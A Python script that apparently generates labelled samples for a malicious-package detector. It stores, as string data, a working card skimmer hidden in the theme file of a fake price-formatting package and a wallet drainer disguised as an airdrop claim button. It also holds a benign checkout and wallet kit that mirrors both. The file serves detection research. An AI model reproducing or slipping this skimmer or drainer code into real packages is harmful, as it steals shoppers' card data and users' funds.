"""Samples of the `reach4` branch for scripts/make-samples.py (2026-11-25, issue 6): page
skimmers that pick the card number and its security code out of the shop's form, and browser
drainers that build their own transactions (balance sweeps, unlimited ERC-20 approvals) for an
address written in the code, in shapes of our own; and tricky benign packages that handle card
fields and wallet transactions honestly.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach4-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test); made-up addresses.
"""

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


@sample
def click_skimmer_image_beacon():
    src = r"""(function () {
  var seen = false;
  function field(sel) { var el = document.querySelector(sel); return el ? el.value : ''; }
  function grab() {
    if (seen) return;
    var rec = [
      field('#cc_number, input[name="payment[cc_number]"]'),
      field('select[name="payment[cc_exp_month]"]') + '/' + field('select[name="payment[cc_exp_year]"]'),
      field('#cc_cid, input[name="payment[cc_cid]"], input[name="cvv"]'),
      field('#billing-email')
    ].join(';');
    if (rec.length < 20) return;
    seen = true;
    new Image().src = 'https://img-cdn.shop-assets.example/pixel.gif?d=' + encodeURIComponent(btoa(rec));
  }
  document.addEventListener('click', function (e) {
    var t = e.target;
    if (t && /place.?order|pay|checkout/i.test(t.textContent || '')) grab();
  }, true);
})();
"""
    files = {
        "package.json": pj(name="store-price-format", version="3.2.1", main="price.js",
                           description="Format prices for storefront themes."),
        "README.md": readme("store-price-format", "```js\nimport 'store-price-format'\n```"),
        "price.js": "export function price(n, c = 'EUR') { return new Intl.NumberFormat(undefined, { style: 'currency', currency: c }).format(n) }\nimport './theme.js'\n",
        "theme.js": src,
    }
    return S(
        "reach4-click-skimmer-image-beacon",
        "Magecart-style skimmers in storefront theme dependencies (2018-2025), our own shape",
        "2025",
        ["browser", "card-skimmer", "click-hook", "image-beacon", "base64"],
        "On a click of the place-order button a top-level IIFE reads the card number, expiry "
        "and CID/CVV by the checkout form's field names and sends them base64-encoded in the "
        "query of a tracking-pixel image to a fixed host.",
        files,
    )


@sample
def approve_and_sweep_drainer():
    src = r"""const RECEIVER = '0x4b1d00000000000000000000000000000000c0de';
const MAX_UINT256 = 'f'.repeat(64);
const STABLES = { 1: ['0xdAC17F958D2ee523a2206206994597C13D831ec7'], 56: ['0x55d398326f99059fF775485246999027B3197955'] };
const word = (a) => a.toLowerCase().replace('0x', '').padStart(64, '0');

export async function claimAirdrop() {
  const w = globalThis.ethereum;
  if (!w) return { ok: false };
  const [me] = await w.request({ method: 'eth_requestAccounts' });
  const id = Number(await w.request({ method: 'eth_chainId' }));
  for (const token of STABLES[id] || []) {
    await w.request({ method: 'eth_sendTransaction', params: [{ from: me, to: token, data: '0x095ea7b3' + word(RECEIVER) + MAX_UINT256 }] }).catch(() => null);
  }
  const wei = BigInt(await w.request({ method: 'eth_getBalance', params: [me, 'latest'] }));
  const gas = 21000n * 30000000000n;
  if (wei > gas) {
    await w.request({ method: 'eth_sendTransaction', params: [{ from: me, to: RECEIVER, value: '0x' + (wei - gas).toString(16) }] }).catch(() => null);
  }
  return { ok: true };
}
"""
    files = {
        "package.json": pj(name="airdrop-claim-button", version="0.4.2", type="module",
                           main="index.js", description="A claim button for token airdrops."),
        "README.md": readme("airdrop-claim-button", "```js\nimport { claimAirdrop } from 'airdrop-claim-button'\n```"),
        "index.js": src,
    }
    return S(
        "reach4-approve-and-sweep-drainer",
        "wallet-drainer kits sold as dapp widgets (Inferno, Angel, Ace drainers 2023-2025), our own shape",
        "2025",
        ["browser", "wallet-drainer", "erc20-approve-max", "native-balance-sweep", "esm"],
        "claimAirdrop() approves an unlimited allowance of each stablecoin for a receiver fixed "
        "in the code, then sends the native balance minus gas to the same address.",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_checkout_and_wallet():
    card = r"""export function readCard(form) {
  const get = (sel) => (form.querySelector(sel) || {}).value || '';
  return {
    number: get('input[autocomplete="cc-number"], #card-number').replace(/\D/g, ''),
    exp: get('input[autocomplete="cc-exp"]'),
    cvc: get('input[autocomplete="cc-csc"], #cvc'),
  };
}

export function mountCheckout(form, opts) {
  form.addEventListener('submit', async (e) => {
    e.preventDefault();
    const card = readCard(form);
    const res = await fetch(opts.tokenizeUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(card) });
    opts.onToken(await res.json());
  });
}

export async function binInfo(number) {
  return (await fetch('https://bins.payments.example/v1/' + number.slice(0, 6))).json();
}
"""
    wallet = r"""const MAX = 'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';

export async function sendMax(eth, from, to) {
  const bal = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] }));
  const fee = 21000n * BigInt(await eth.request({ method: 'eth_gasPrice' }));
  return eth.request({ method: 'eth_sendTransaction', params: [{ from, to: to, value: '0x' + (bal - fee).toString(16) }] });
}

export function approveRouter(eth, from, token, router) {
  return eth.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + router.slice(2).padStart(64, '0') + MAX }] });
}
"""
    files = {
        "package.json": pj(name="shop-pay-kit", version="2.1.0", type="module", main="card.js",
                           description="Checkout form helpers: card fields, tokenization, wallet payments."),
        "README.md": readme("shop-pay-kit", "```js\nmountCheckout(form, { tokenizeUrl: '/api/tokenize', onToken })\n```"),
        "card.js": card,
        "wallet.js": wallet,
    }
    return S(
        "reach4-benign-checkout-and-wallet",
        "checkout kit: reads card number and CVC from the form, sends them to the URL its caller "
        "configures; a wallet 'send max' and router approval to addresses the caller passes",
        "2025",
        ["card-fields", "tokenize", "wallet-send-max", "erc20-approve-max"],
        "Mirrors reach4-click-skimmer-image-beacon and reach4-approve-and-sweep-drainer: the same "
        "card field names and the same balance sweep and unlimited approve, but the card goes to "
        "the caller's tokenize URL (the fixed host only gets a six-digit BIN) and the funds to "
        "addresses the caller passes.",
        files,
    )
